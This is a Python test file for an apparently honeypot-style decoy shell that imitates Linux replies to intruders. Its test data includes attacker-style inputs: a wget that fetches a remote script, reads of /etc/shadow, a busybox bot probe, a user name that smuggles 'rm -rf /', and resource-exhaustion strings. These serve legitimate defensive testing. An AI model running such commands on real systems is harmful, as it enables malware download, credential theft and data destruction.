import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet_core.decoy.identity import Identity
from decnet_core.decoy.shell.interpreter import MAX_OUTPUT, Shell
from decnet_core.decoy.shell.machine import RELEASES, machine_of
from tests.decoy.running import SEED, a_persona


def a_shell(user: str = "admin", **persona) -> Shell:
    return Shell(machine_of(a_persona(**persona), Identity(SEED), "10.77.0.6"), user, "10.77.0.1")


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("whoami", "admin\n"),
        ("pwd; cd /etc && pwd", "/home/admin\n/etc\n"),
        ("cd /nope || echo no", "-bash: cd: /nope: No such file or directory\nno\n"),
        ("cat /etc/passwd | grep root | wc -l", "1\n"),
        ("echo 'a;b' \"$USER\" $?", "a;b admin 0\n"),
        ("false; echo $?", "1\n"),
        ("echo x > /tmp/f; echo y >> /tmp/f; cat /tmp/f", "x\ny\n"),
        ("nonsense 2>/dev/null", "-bash: nonsense: command not found\n"),
        ("cat /etc/shadow", "cat: /etc/shadow: Permission denied\n"),
        ("sudo whoami", "admin\n"),
        ("sh -c 'hostname'", "SRV-ALPHA-01\n"),
        ("echo -e '\\x41\\x42'", "AB\n"),
        ("/bin/busybox ECCHI", "ECCHI: applet not found\n"),
        ("wget http://10.0.0.9/x.sh", "wget: unable to resolve host address '10.0.0.9'\n"),
        ("echo 'unclosed", "-bash: syntax error: unexpected end of file\n"),
        (
            "mkdir d; cd d; pwd; cd ..; rm -r d; ls d",
            "/home/admin/d\nls: cannot access 'd': No such file or directory\n",
        ),
        ("A=5; echo ${A}", "5\n"),
        ("# nothing", ""),
    ],
)
def test_given_a_line_when_run_then_the_answer_is_what_a_shell_would_say(line, text):
    assert a_shell().run(line).text == text


@pytest.mark.parametrize("distro", RELEASES)
def test_given_a_distribution_when_asked_then_every_answer_fits_it(distro):
    shell = a_shell("root", distro=distro)

    assert RELEASES[distro].kernel in shell.run("uname -a").text
    assert RELEASES[distro].title in shell.run("cat /etc/os-release").text
    assert shell.prompt.endswith("# ")


def test_given_exit_when_run_then_the_shell_is_left_with_the_last_status():
    reply = a_shell().run("false; exit")

    assert reply.left


@given(st.text(max_size=300))
def test_any_text_is_answered(line):
    shell = a_shell()

    reply = shell.run(line)

    assert len(reply.text) <= MAX_OUTPUT
    assert shell.prompt


@given(
    st.lists(
        st.sampled_from(
            ["echo ", "'", '"', "\\", ";", "&&", "|", ">", ">>", " ", "$", "a", "/tmp/x", "sudo ", "sh -c "]
        )
    )
)
def test_any_mix_of_shell_syntax_is_answered(pieces):
    a_shell().run("".join(pieces))


@pytest.mark.parametrize(
    "line", ["sudo " * 2000 + "id", "(" * 5000, "'\"" * 3000, ";" * 9000, "echo " + "a" * 100_000, "$A" * 4000]
)
def test_given_a_line_made_to_exhaust_when_run_then_it_is_answered(line):
    assert len(a_shell().run(line).text) <= MAX_OUTPUT


def test_given_a_visitor_who_writes_for_ever_when_the_space_is_used_up_then_no_more_is_kept():
    shell = a_shell()

    for number in range(300):
        shell.run(f"echo {'x' * 500} > /tmp/f{number}; mkdir /tmp/d{number}; export V{number}={'x' * 500}")

    assert len(shell.run("ls /tmp").text.split()) < 300


@pytest.mark.parametrize("user", ["../../etc", "a/b", ".", "x" * 500, "'; rm -rf /", "\x00"])
def test_given_an_odd_user_name_when_logged_in_then_home_is_one_directory(user):
    home = a_shell(user).run("pwd").text.strip("\n")

    assert home.startswith("/home/")
    assert home.count("/") == 2
